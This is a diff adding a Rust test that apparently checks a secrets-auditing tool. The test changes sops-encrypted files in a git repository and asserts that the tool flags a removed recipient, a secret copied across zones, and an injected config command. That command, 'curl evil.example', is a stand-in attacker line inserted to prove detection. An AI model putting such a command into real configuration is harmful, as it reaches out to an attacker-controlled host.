@@ -150,6 +150,98 @@ fn the_sample_before_and_after_the_split() {
     );
 }
 
+#[test]
+fn a_change_is_compared_with_where_it_began() {
+    if !have_peers(&["git", "sops"]) {
+        return;
+    }
+    let (homeops, recovery) = Homeops::prepared();
+    homeops.split().expect_code(0);
+    let tree = homeops.repository();
+    let sandbox = &homeops.sandbox;
+    let git = |args: &[&str]| sandbox.git(&tree, args);
+    let since = |revision: &str| check(sandbox, &tree, &["--json", "--since", revision]);
+    let file = "docker/stacks/server04/traefik/.sops.env";
+    let sops = |args: &[&str]| {
+        let mut command = sandbox.command("sops", &tree);
+        command.env("SOPS_AGE_KEY_FILE", homeops.laptop_file());
+        Ran::of(command.args(args)).expect_code(0);
+    };
+    // What the split did is no finding: every data key is new.
+    since("HEAD~2").expect_code(0);
+    git(&["switch", "--quiet", "-c", "change"]);
+    // An edit on this side, and one on the other that this side has not.
+    sops(&["set", file, "[\"CF_DNS_API_TOKEN\"]", "\"another\""]);
+    git(&["commit", "--quiet", "-am", "edit"]);
+    git(&["switch", "--quiet", "main"]);
+    sops(&[
+        "set",
+        "docker/stacks/kasm/newt/.sops.env",
+        "[\"NEWT_ID\"]",
+        "\"new\"",
+    ]);
+    git(&["commit", "--quiet", "-am", "meanwhile"]);
+    git(&["switch", "--quiet", "change"]);
+    since("main").expect_code(0);
+    // A recipient that sops takes out alone.
+    sops(&["rotate", "-i", "--rm-age", recovery.as_str(), file]);
+    let rotated = counts(&since("main").expect_code(3));
+    assert_eq!(
+        rotated.keys().collect::<Vec<_>>(),
+        ["missing-reader", "no-recovery"]
+    );
+    git(&["checkout", "--quiet", file]);
+    let text = std::fs::read_to_string(tree.join(file)).unwrap();
+    let without = without_recipient(&text, recovery.as_str());
+    std::fs::write(tree.join(file), without).unwrap();
+    let left = counts(&since("main").expect_code(3));
+    assert_eq!(left["recipient-left-behind"], 1, "{left:?}");
+    git(&["checkout", "--quiet", file]);
+    // A secret of the VPS, in a folder that the LAN reads.
+    let from = tree.join("docker/stacks/racknerd-aegis/newt/.sops.env");
+    std::fs::create_dir_all(tree.join("docker/stacks/kasm/stolen")).unwrap();
+    std::fs::copy(from, tree.join("docker/stacks/kasm/stolen/.sops.env")).unwrap();
+    let copied = counts(&since("main").expect_code(3));
+    assert_eq!(copied["copied-across-zones"], 1, "{copied:?}");
+    std::fs::remove_dir_all(tree.join("docker/stacks/kasm/stolen")).unwrap();
+    // A command that nobody reviewed.
+    let topology = std::fs::read_to_string(tree.join("cofferdam.toml")).unwrap();
+    std::fs::write(
+        tree.join("cofferdam.toml"),
+        topology.replace("[publish]", "[publish]\nrun = [\"curl evil.example\"]"),
+    )
+    .unwrap();
+    let trusts = since("main").expect_code(3);
+    assert!(
+        trusts.stdout.contains("runs here: curl evil.example"),
+        "{}",
+        trusts.stdout
+    );
+    since("no-such-revision").expect_code(2);
+    let empty = sandbox.path().join("no-git");
+    std::fs::create_dir(&empty).unwrap();
+    check(sandbox, &empty, &["--since", "HEAD"]).expect_code(2);
+}
+
+/// A dotenv document without one of its age entries, which is its last.
+fn without_recipient(text: &str, recipient: &str) -> String {
+    let line = text.lines().find(|l| l.ends_with(recipient)).unwrap();
+    let entry = line.split("__map_").next().unwrap();
+    let kept = text.lines().filter(|line| !line.starts_with(entry));
+    let mut moved: Vec<String> = kept.map(str::to_owned).collect();
+    // Lists have no gaps: those behind move up.
+    let at: usize = entry.rsplit('_').next().unwrap().parse().unwrap();
+    for line in &mut moved {
+        for later in at + 1..9 {
+            let (old, new) = (format!("list_{later}__"), format!("list_{}__", later - 1));
+            if line.starts_with("sops_age__") {
+                *line = line.replace(&old, &new);
+            }
+        }
+    }
+    moved.join("\n") + "\n"
+}
+
 /// A repository with something for every kind of place, and names that forms of output must take care of.
 fn motley(sandbox: &Sandbox) -> PathBuf {
     let folder = sandbox.path().join("motley");
